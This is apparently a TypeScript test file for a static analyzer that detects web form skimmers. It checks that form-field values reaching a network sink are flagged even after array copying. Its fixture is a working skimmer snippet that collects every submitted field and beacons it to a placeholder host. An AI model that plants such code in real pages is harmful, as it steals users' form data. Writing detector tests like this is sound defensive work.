import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { inspectSource } from '../../src/analyze/pipeline.ts';

/** Whether some flow carries a form field's value to a network sink. */
function fieldReachesNetwork(code: string): boolean {
  return inspectSource(code).findings.some((finding) => finding.flow?.source.kind === 'form-field' && !finding.flow.sink.staging);
}

const send = (list: string): string => `document.addEventListener('submit', function (evt) {
  var entry = {};
  for (const el of ${list}) entry[el.name] = el.value;
  navigator.sendBeacon('https://x.example/m', JSON.stringify(entry));
}, true);`;

// Skimmers copy a form's element list into an array before walking it; the copy still holds the fields.
describe('array copies of element lists', () => {
  for (const list of ['evt.target.elements', 'Array.from(evt.target.elements)', '[...evt.target.elements]', 'Array.prototype.slice.call(evt.target.elements)']) {
    test(`fields read through ${list} reach the network`, () => assert.ok(fieldReachesNetwork(send(list))));
  }
  test('an array copy of something else is not a field list', () => assert.ok(!fieldReachesNetwork(send('Array.from(window.cart.items)'))));
});
